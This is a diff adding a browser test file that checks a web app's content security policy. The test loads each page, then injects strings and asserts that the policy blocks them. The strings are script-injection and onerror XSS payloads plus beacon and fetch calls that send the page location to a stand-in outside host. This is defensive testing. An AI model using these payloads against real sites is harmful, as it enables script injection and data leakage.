@@ -1,0 +1,46 @@
+"""The content policy in a real browser: it lets all of the app work, and nothing else."""
+
+import pytest
+
+PAGES = ("/", "/browse", "/segment", "/evaluate", "/compare", "/train")
+
+pytestmark = pytest.mark.usefixtures("stored_model")
+
+
+def refused(page):
+    """Collect what the policy refuses from now on; a browser's own words."""
+    found = []
+    page.on("console", lambda said: found.append(said.text) if "Policy" in said.text else None)
+    return found
+
+
+@pytest.mark.parametrize("path", PAGES)
+def test_no_page_needs_what_the_policy_refuses(page, wait_until_idle, path):
+    found = refused(page)
+
+    page.goto(path)
+    wait_until_idle(page)
+
+    assert found == []
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "document.head.append(Object.assign(document.createElement('script'), {text: 'hit = 1'}))",
+        "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"hit = 1\">')",
+        "setTimeout('hit = 1')",
+        "new Image().src = 'http://other.example/?' + location",
+        "fetch('http://other.example/').catch(() => 0)",
+    ],
+)
+def test_text_that_got_into_a_page_runs_nothing_and_tells_nobody(page, wait_until_idle, attack):
+    page.goto("/")
+    wait_until_idle(page)
+    found = refused(page)
+
+    page.evaluate(f"() => {{ {attack} }}")
+    page.wait_for_timeout(500)
+
+    assert page.evaluate("() => window.hit") is None
+    assert found
